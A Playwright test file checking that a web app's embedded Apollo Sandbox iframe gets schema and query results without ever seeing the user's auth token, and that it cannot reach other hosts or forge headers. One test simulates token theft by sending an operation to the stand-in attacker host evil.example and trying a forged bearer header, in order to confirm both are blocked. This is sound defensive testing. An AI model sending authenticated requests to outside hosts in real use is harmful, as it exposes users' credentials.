import { expect, type Page, test } from '@playwright/test';
import { getIntrospectionQuery } from 'graphql';
import { addTask, signUp } from './page-actions.ts';

const SANDBOX = 'https://sandbox.embed.apollographql.com';

/**
 * Apollo's page, as far as `@apollo/sandbox` 2.7.4 talks to it (EmbeddedSandbox, `setupSandboxEmbedRelay`): it says that it
 * listens, asks for the schema and sends operations, all as messages. `ask` sends one and returns the answer to it.
 */
const FRAME = `<!doctype html><script>
  window.answers = [];
  addEventListener('message', ({ data }) => window.answers.push(data));
  window.ask = (message, answer) => new Promise((resolve) => {
    addEventListener('message', ({ data }) => data.name === answer && resolve(data));
    parent.postMessage(message, '*');
  });
  parent.postMessage({ name: 'ExplorerListeningForHandshake' }, '*');
</script>`;

/** Opens the embedded Sandbox with the page above in place of Apollo's. */
async function openSandbox(page: Page) {
  await page.route(`${SANDBOX}/**`, (route) => route.fulfill({ contentType: 'text/html', body: FRAME }));
  await page.goto('/explore');
  await page.getByRole('button', { name: 'Open Apollo Sandbox here' }).click();
  await expect(page.locator('iframe')).toBeVisible();
  await expect.poll(() => page.frames().some((frame) => frame.url().startsWith(SANDBOX))).toBe(true);
  const frame = page.frames().find((one) => one.url().startsWith(SANDBOX));
  if (frame === undefined) throw new Error('The frame has gone.');
  const ask = (message: object, answer: string) =>
    frame.evaluate<Record<string, unknown>>(`window.ask(${JSON.stringify(message)}, ${JSON.stringify(answer)})`);
  return { frame, ask };
}

const operation = (endpointUrl: string, query: string, headers = {}) => ({
  name: 'ExplorerRequest',
  operationId: 'one',
  operation: query,
  operationName: undefined,
  variables: {},
  headers,
  endpointUrl,
  includeCookies: true,
});

// covers: EXPLORE-05
test('the embedded Sandbox gets schema and answers of the signed-in user, and never the token', async ({ page }) => {
  await signUp(page);
  await addTask(page, 'Seen by Sandbox');
  const endpoint = `${process.env['API_URL']}/graphql`;
  const tokens: (string | undefined)[] = [];
  page.on('request', (request) => {
    if (request.url() === endpoint && request.method() === 'POST') tokens.push(request.headers()['authorization']);
  });
  const { frame, ask } = await openSandbox(page);

  const introspectionRequestBody = JSON.stringify({
    query: getIntrospectionQuery(),
    operationName: 'IntrospectionQuery',
  });
  const introspection = {
    name: 'IntrospectionQueryWithHeaders',
    introspectionRequestHeaders: {},
    introspectionRequestBody,
  };
  // Sandbox polls.
  for (let poll = 0; poll < 3; poll++) {
    const { schema } = await ask(
      { ...introspection, sandboxEndpointUrl: endpoint, operationId: `poll${poll}` },
      'SchemaResponse',
    );
    expect(JSON.stringify(schema)).toContain('createTask');
  }
  const { response } = await ask(operation(endpoint, '{ tasks { nodes { title } } }'), 'ExplorerResponse');
  expect(response).toMatchObject({ status: 200, data: { tasks: { nodes: [{ title: 'Seen by Sandbox' }] } } });

  expect(tokens.length).toBeGreaterThan(3);
  const token = (tokens.at(-1) ?? '').replace('Bearer ', '');
  expect(token.split('.')).toHaveLength(3);
  expect(await frame.evaluate<string>('JSON.stringify(window.answers)')).not.toContain(token);
  expect(frame.url()).not.toContain(token);
});

// covers: EXPLORE-05
test('the embedded Sandbox cannot send the token to another URL, nor set a header', async ({ page }) => {
  await signUp(page);
  const endpoint = `${process.env['API_URL']}/graphql`;
  const { ask } = await openSandbox(page);
  const elsewhere: string[] = [];
  await page.route('https://evil.example/**', (route) => {
    elsewhere.push(route.request().url());
    return route.abort();
  });
  const stolen = await ask(operation('https://evil.example/graphql', '{ viewer { id } }'), 'ExplorerResponse');
  expect(stolen['response']).toMatchObject({ status: 400 });
  expect(elsewhere).toEqual([]);

  const forged = operation(endpoint, '{ viewer { id } }', { authorization: 'Bearer forged', 'x-mine': '1' });
  expect((await ask(forged, 'ExplorerResponse'))['response']).toMatchObject({ status: 200 });
});

test('the page says that Sandbox needs the internet if Apollo’s page does not load', async ({ page }) => {
  await page.clock.install();
  await page.route(`${SANDBOX}/**`, (route) => route.abort());
  await page.goto('/explore');
  await page.getByRole('button', { name: 'Open Apollo Sandbox here' }).click();
  await expect(page.getByText('Loading Apollo Sandbox…')).toBeVisible();
  await page.clock.fastForward(11_000);
  await expect(page.getByRole('alert').filter({ hasText: 'Apollo Sandbox cannot be reached' })).toBeVisible();
  await page.getByRole('button', { name: 'Try again' }).click();
  await expect(page.getByText('Loading Apollo Sandbox…')).toBeVisible();
});
